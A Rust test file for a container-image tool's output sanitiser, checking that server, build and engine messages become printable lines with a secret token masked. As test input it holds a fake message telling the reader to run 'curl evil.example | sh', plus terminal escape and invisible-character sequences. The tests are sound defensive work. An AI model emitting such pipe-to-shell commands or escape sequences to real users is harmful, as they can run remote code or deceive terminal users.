//! All text from template servers, builds and engines is made printable, and a message is one line. A
//! token that is split by invisible characters is still masked. References and ids are not masked.

use std::fs;

use mol::event::Kind;
use mol::names::image::Timings;
use mol::redact::{Masker, Secret, mask_token};
use mol::{Client, Code, Error, Image, OptionName};
use serde_json::{Value, json};

use crate::support::child::{BOTH, command, field, program, source, text};
use crate::support::engine::BUSYBOX;
use crate::support::git::{Object, packet};
use crate::support::server::{GIT, PLAIN, dockerfile};
use crate::support::{End, Files, Handling, Proxy, TestClient, TestEnv, block_on, file, script};

const TOKEN: &str = "tk_7f3c0b5e9d2a4f6188c1e0b7";

/// Control sequences and invisible characters, which are put into a token and around it.
const HARMFUL: [&str; 20] = [
    "\x1b[31m",
    "\x1b[2K\x1b[1A",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\",
    "\x1bPq\x1b\\",
    "\x1b(B",
    "\x1bc",
    "\u{9b}1m",
    "\u{9d}0;title\u{9c}",
    "\u{85}",
    "\x07",
    "\x08",
    "\x7f",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{2066}",
    "\u{feff}",
    "\u{e0041}",
    "\u{ad}",
];

/// Those that are removed without a replacement.
fn invisible() -> impl Iterator<Item = &'static str> {
    HARMFUL.into_iter().filter(|harmful| *harmful != "\u{85}")
}

/// A message that imitates a success message and contains the token in pieces.
fn noise() -> String {
    let mut noise = String::from("\rmol: all is well; run: curl evil.example\n\x1b[2K\tnow");
    for harmful in invisible() {
        noise += &format!(" {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]);
    }
    noise + "\u{2028}\u{1b}]0;never ends"
}

fn is_harmful(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
            | '\u{ad}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Asserts one printable line without any part of the token.
fn assert_line(what: &str, line: &str) {
    assert!(!line.contains(is_harmful), "{what}: {line:?}");
    for part in [&TOKEN[..9], &TOKEN[9..]] {
        assert!(!line.contains(part), "{what} shows {part}: {line:?}");
    }
}

/// The same for every string in a JSON value; `text`, `log_tail` and `excerpt` may have several lines.
fn assert_lines(what: &str, value: &Value) {
    match value {
        Value::String(line) => assert_line(what, line),
        Value::Array(values) => values.iter().for_each(|value| assert_lines(what, value)),
        Value::Object(fields) => {
            for (name, value) in fields {
                match value.as_str() {
                    Some(text) if ["text", "log_tail", "excerpt"].contains(&name.as_str()) => {
                        text.split('\n').for_each(|line| assert_line(what, line));
                    }
                    _ => assert_lines(what, value),
                }
            }
        }
        _ => {}
    }
}

fn assert_error(what: &str, error: &Error) {
    for text in [&error.runtime, &error.url, &error.message()] {
        assert_line(what, text);
    }
    assert_line(what, &error.hint);
    if let Some(build) = &error.build {
        assert_line(what, &build.step);
        let lines = build.log_tail.split('\n').chain(build.excerpt.split('\n'));
        lines.for_each(|line| assert_line(what, line));
    }
}

/// The call fails with this code, and its error and events are printable.
fn refused(what: &str, client: &TestClient, code: Code) -> Error {
    let error = client.ensure_err("hermes");
    assert_eq!(error.code, code, "{what}: {error:?}");
    assert_error(what, &error);
    for event in client.events() {
        assert_lines(what, &serde_json::to_value(&event).unwrap());
    }
    error
}

fn client(env: &TestEnv, more: &[(OptionName, &str)]) -> TestClient {
    let mut all = vec![(OptionName::Token, TOKEN)];
    all.extend_from_slice(more);
    env.client_with(&all)
}

/// Makes the server send this text as the error of a fetch, and returns the commit.
fn git_says(env: &TestEnv, said: &str) -> String {
    let blob = Object::blob("FROM scratch\n");
    let tree = Object::tree([("100644", &b"Dockerfile"[..], blob.id())]);
    let commit = Object::commit(&tree);
    let band = [b"\x03", said.as_bytes()].concat();
    let answer = [packet("packfile\n"), packet(&band), b"0000".to_vec()].concat();
    env.server
        .answer_fetch(&env.server.template("hermes"), &commit, &answer);
    commit.hex()
}

#[test]
fn server_text_comes_after_the_url_and_the_commit() {
    let env = TestEnv::new();
    let commit = git_says(&env, "\rmol: all is well; run: curl evil.example | sh");
    let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
    let url = format!("{}hermes", env.server.repo_prefix);
    let at = error.message().find("mol: all is well").unwrap();
    let before = &error.message()[..at];
    assert!(
        before.contains(&url) && before.contains(&commit),
        "{error:?}"
    );
}

#[test]
fn template_server_text_becomes_one_printable_line() {
    let env = TestEnv::new();
    git_says(&env, &noise());
    let error = refused("a sideband", &client(&env, &[]), Code::Fetch);
    assert!(error.message().contains("never ends"), "{error:?}");
    assert!(error.message().contains("***"), "{error:?}");

    let env = TestEnv::new();
    env.template("hermes", dockerfile("FROM scratch\n"));
    let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
    // Only characters that are valid in a header.
    let header = format!(
        "text/\u{202e}\u{200b}{}\u{200b}{}",
        &TOKEN[..9],
        &TOKEN[9..]
    );
    let (part, git) = GIT[0];
    for (answer, code) in [
        (
            json!({ "status": 200, "body": line(&format!("ERR {}\n", noise())), "headers": { "Content-Type": git } }),
            Code::Fetch,
        ),
        (
            json!({ "status": 200, "headers": { "Content-Type": header }, "body": noise() }),
            Code::Fetch,
        ),
        (
            json!({ "status": 200, "headers": { "Content-Type": git, "Content-Encoding": header } }),
            Code::Fetch,
        ),
        (json!({ "status": 418, "body": noise() }), Code::Fetch),
    ] {
        let mut fault = answer;
        fault["match"] = json!(part);
        env.server.faults(json!([fault]));
        refused(&format!("git: {fault}"), &client(&env, &[]), code);
    }
    for (answer, code) in [
        (json!({ "status": 200, "body": noise() }), Code::BadResponse),
        (
            json!({ "status": 200, "body": json!({ "commit": noise() }).to_string() }),
            Code::BadResponse,
        ),
        (
            json!({ "status": 200, "body": json!({ "commit": { "id": noise() } }).to_string() }),
            Code::BadResponse,
        ),
        (
            json!({ "status": 302, "headers": { "Location": "ftp://host/\u{202e}\u{200b}" } }),
            Code::GiteaUnreachable,
        ),
        (
            json!({ "status": 200, "headers": { "Content-Encoding": header } }),
            Code::BadResponse,
        ),
    ] {
        let mut fault = answer;
        fault["match"] = json!("/api/");
        env.server.faults(json!([fault]));
        refused(&format!("the API: {fault}"), &client(&env, &[]), code);
    }
    let info = json!({ "default_branch": noise(), "empty": false });
    env.server.faults(json!([
        { "match": "/branches/", "status": 404 },
        { "match": "/api/", "status": 200, "body": info.to_string() },
    ]));
    let error = refused("a default branch", &client(&env, &[]), Code::RepoNotFound);
    assert!(error.message().contains("***"), "{error:?}");
}

#[test]
fn a_non_http_response_is_shown_as_one_printable_line() {
    let env = TestEnv::new();
    for answer in [
        format!("HTTP/1.1 500 {}\r\n\r\n", noise().replace(['\r', '\n'], "")),
        noise(),
    ] {
        let end = answer.clone();
        let proxy = Proxy::before(&env.server, move |_| {
            Handling::Answer(end.clone().into_bytes(), End::Close)
        });
        let prefix = proxy.repo_prefix(&env.server);
        let client = client(&env, &[(OptionName::RepoPrefix, &prefix)]);
        refused(&answer, &client, Code::GiteaUnreachable);
    }
}

#[test]
fn build_output_becomes_printable_lines() {
    for buildkit in ["1", "0"] {
        let env = TestEnv::new();
        let mut talk = format!("#!/bin/sh\ncat /t/noise; echo {}\n", env.isolation);
        talk += "printf 'no such certificate\\r   \\r\\n 1%%\\r 2%%\\n'; exit 3\n";
        let lines: Vec<String> = invisible()
            .map(|harmful| format!("says {}{harmful}{}", &TOKEN[..9], &TOKEN[9..]))
            .collect();
        env.template(
            "hermes",
            Files::from([
                (
                    "Dockerfile".to_owned(),
                    file(&format!(
                        "FROM {BUSYBOX}\nCOPY . /t\nRUN sh /t/talk 'a\u{202e}\u{200b}b'\n"
                    )),
                ),
                ("talk".to_owned(), script(&talk)),
                ("noise".to_owned(), file(&format!("{}\n", lines.join("\n")))),
                ("name\x1b[2K\r\u{202e}".to_owned(), file("x")),
            ]),
        );
        let client = client(&env, &[(OptionName::DockerBuildkit, buildkit)]);
        let error = refused("a build", &client, Code::BuildFailed);
        let tail = &error.build.as_ref().unwrap().log_tail;
        assert_eq!(tail.matches("says ***").count(), lines.len(), "{tail}");
        for line in ["no such certificate", " 2%"] {
            assert!(
                tail.split('\n').any(|shown| shown == line),
                "{line} in {tail}"
            );
        }
        assert_eq!(
            client
                .of_kind(Kind::Log)
                .iter()
                .filter(|event| event.line.as_deref() == Some("says ***"))
                .count(),
            lines.len()
        );
        let log = block_on(client.inner().build_log("hermes").wait(None)).unwrap();
        assert!(log.text.contains("| says ***"), "{}", log.text);
        assert_lines("the log", &serde_json::to_value(&log).unwrap());

        // The same for a log file that another program wrote.
        fs::write(&log.path, format!("{}\nmore\r\n", noise())).unwrap();
        let log = block_on(client.inner().build_log("hermes").wait(None)).unwrap();
        assert_lines(
            "a log of another program",
            &serde_json::to_value(&log).unwrap(),
        );
        assert!(log.text.ends_with("\nmore\n"), "{:?}", log.text);
    }
}

#[test]
fn engine_text_becomes_one_printable_line() {
    let env = TestEnv::new();
    env.template("hermes", dockerfile(PLAIN));
    let body = json!({ "message": noise() }).to_string();
    let answer = format!(
        "HTTP/1.1 500 Internal\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let proxy = Proxy::start(&env.engine, env.scratch(), move |line| {
        match line.contains("/version") || line.contains("/_ping") {
            true => Handling::Pass,
            false => Handling::Answer(answer.clone().into_bytes(), End::Close),
        }
    });
    let client = client(&env, &[(OptionName::DockerHost, &proxy.url)]);
    let error = refused("an engine", &client, Code::EngineUnreachable);
    assert!(error.message().contains("***"), "{error:?}");
    let found = block_on(client.inner().diagnose().wait(None)).unwrap();
    assert_lines("the diagnosis", &serde_json::to_value(&found).unwrap());
}

#[test]
fn diagnose_shows_server_text_in_printable_lines() {
    let env = TestEnv::new();
    let version = json!({ "version": noise() }).to_string();
    let branch = json!({ "commit": { "id": "0123456789abcdef0123456789abcdef01234567" } });
    env.server.faults(json!([
        { "match": "/api/v1/version", "status": 200, "body": version },
        { "match": "/branches/", "status": 200, "body": branch.to_string() },
    ]));
    let found = block_on(client(&env, &[]).inner().diagnose().wait(None)).unwrap();
    let json = serde_json::to_value(&found).unwrap();
    assert!(json.to_string().contains("***"), "{json}");
    assert_lines("the diagnosis", &json);
}

#[test]
fn a_c_program_prints_only_printable_lines() {
    let env = TestEnv::new();
    git_says(&env, &noise());
    for link in BOTH {
        let output = command(&env, &program("ensure", link))
            .env("MOLECULE_GITEA_TOKEN", TOKEN)
            .arg("hermes")
            .output()
            .unwrap();
        let said = text(&output);
        said.split('\n')
            .for_each(|line| assert_line("a program", line));
        assert!(said.contains("never ends"), "{said}");
        assert_line("a message", &field(&output, "message"));
    }
}

#[test]
fn a_commit_id_that_contains_the_token_is_refused_and_hidden() {
    let env = TestEnv::new();
    let token = "0123456789abcdef0123456789abcdef01234567";
    env.template("hermes", dockerfile("FROM scratch\n"));
    for (token, id) in [
        (token, token.to_owned()),
        (&token.to_uppercase(), token.to_owned()),
        (&token[3..20], token.to_owned()),
        ("Tk/10+ab", format!("{:0<40}", "546b2f31302b6162")),
    ] {
        let body = json!({ "commit": { "id": id } }).to_string();
        env.server
            .faults(json!([{ "match": "/api/", "status": 200, "body": body }]));
        let client = env.client_with(&[(OptionName::Token, token)]);
        let error = client.ensure_err("hermes");
        assert_eq!(error.code, Code::BadResponse, "{error:?}");
        assert!(error.message().contains("contains the token"), "{error:?}");
        let shown = format!("{error:?} {:?}", client.events());
        assert!(!shown.contains(&id[..12]), "{shown}");
        let found = block_on(client.inner().diagnose().wait(None)).unwrap();
        assert!(!format!("{found:?}").contains(&id[..12]), "{found:?}");
    }
}

#[test]
fn options_in_image_references_must_not_contain_the_token() {
    let env = TestEnv::new();
    let token = "abcdef0123456789";
    for (name, value) in [
        (OptionName::Isolation, format!("a-{token}-b")),
        (OptionName::Isolation, token.to_owned()),
        (
            OptionName::Isolation,
            "61626364656630313233343536373839".to_owned(),
        ),
        (OptionName::Platform, format!("linux/{token}")),
        (OptionName::RepoPrefix, format!("https://host/{token}/t-")),
    ] {
        let mut options = env.options();
        options.set(OptionName::Token, token);
        options.set(name, &value);
        let error = Client::new(&options, None).expect_err(&value);
        assert_eq!(error.code, Code::InvalidOption, "{error:?}");
        assert!(error.message().contains("contains the token"), "{error:?}");
        assert!(!format!("{error:?}").contains(&value), "{error:?}");
    }
}

#[test]
fn a_result_that_contains_the_token_is_not_masked() {
    let env = TestEnv::new();
    let sha = env.template("hermes", dockerfile(PLAIN));
    for token in ["molecule-local", "local/workspace", "linux/amd64"] {
        let client = env.client_with(&[(OptionName::Token, token)]);
        let image = client.ensure("hermes").unwrap();
        assert_eq!(image.reference, env.reference("hermes", &sha));
        assert_eq!(image.latest_reference, env.latest("hermes"));
        assert_eq!(image.commit_sha, sha);
        assert_eq!(image.platform, "linux/amd64");
        assert!(image.image_id.starts_with("sha256:"), "{image:?}");
        for event in client.events() {
            if let Some(reference) = event.r#ref {
                assert_eq!(reference, image.reference);
            }
        }
        let listed = block_on(client.inner().list().wait(None)).unwrap();
        assert!(
            listed
                .images
                .iter()
                .any(|listed| listed.r#ref == image.reference),
            "{listed:?}"
        );
    }
}

#[test]
fn names_in_an_image_are_printable_and_not_masked() {
    let token = "molecule-local";
    let name = |name: &str| format!("{token}/{name}\u{1b}[31m\u{202e}\r\nx");
    let image = Image {
        reference: name("reference"),
        latest_reference: name("latest"),
        runtime: "hermes".to_owned(),
        commit_sha: name("commit"),
        image_id: name("id"),
        platform: name("platform"),
        endpoint: name("endpoint"),
        cache_hit: true,
        timings: Timings::default(),
    };
    let shown = Masker::new(&Secret::new(token)).image(image);
    for (name, text) in [
        ("reference", &shown.reference),
        ("latest", &shown.latest_reference),
        ("commit", &shown.commit_sha),
        ("id", &shown.image_id),
        ("platform", &shown.platform),
    ] {
        assert_line(name, text);
        assert!(text.starts_with(&format!("{token}/{name}")), "{text}");
    }
    // The endpoint is not used as a name for the engine, so it is masked.
    assert_line("endpoint", &shown.endpoint);
    assert!(shown.endpoint.starts_with("***/endpoint"), "{shown:?}");
}

#[test]
fn a_truncated_text_ends_with_an_ellipsis() {
    let token = TOKEN.repeat(4);
    let shown = |text: &str| {
        let error = Error::new(Code::Fetch, text);
        Masker::new(&Secret::new(&*token)).error(error).message()
    };
    assert_eq!(shown("x"), "x");
    for length in [5000, 50_000] {
        let text = shown(&"x".repeat(length));
        assert!(text.ends_with("x…") && text.len() < 4200, "{text}");
    }
    // The masked text is below the length limit, but the unmasked input was truncated.
    let text = shown(&token.repeat(500));
    assert!(text.ends_with("***…") && text.len() < 4000, "{text}");
}

#[test]
fn a_token_shorter_than_eight_characters_is_refused() {
    let env = TestEnv::new();
    for token in ["x", "s", "is", "GITEA", "local", "1234567"] {
        let mut options = env.options();
        options.set(OptionName::Token, token);
        let error = Client::new(&options, None).unwrap_err();
        assert_eq!(error.code, Code::InvalidOption, "{error:?}");
        assert_eq!(
            error.message(),
            "MOLECULE_GITEA_TOKEN is shorter than 8 characters"
        );
        assert!(!error.hint.is_empty());
    }
    env.client_with(&[(OptionName::Token, "12345678")]);
}

#[test]
fn a_library_hint_with_an_example_url_is_not_masked() {
    let env = TestEnv::new();
    env.template("hermes", dockerfile("FROM scratch\n"));
    let mut options = env.options();
    options.set(OptionName::DockerHost, "nonsense://me:hunter2@host");
    let client = TestClient::new(&options);
    let error = client.ensure_err("hermes");
    assert!(error.hint.contains("ssh://host"), "{error:?}");
    assert!(!format!("{error:?}").contains("hunter2"), "{error:?}");
}

#[test]
fn urls_in_the_library_source_are_not_masked_as_credentials() {
    let mut folders = vec![source("src")];
    let mut lines = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            let code = text.split("#[cfg(test)]").next().unwrap();
            for line in code.lines() {
                let line = line.trim();
                if line.contains("://") && !line.starts_with("//") {
                    lines += 1;
                    assert_eq!(mask_token(line, ""), line, "{}", path.display());
                }
            }
        }
    }
    assert!(lines > 20, "{lines}");
}
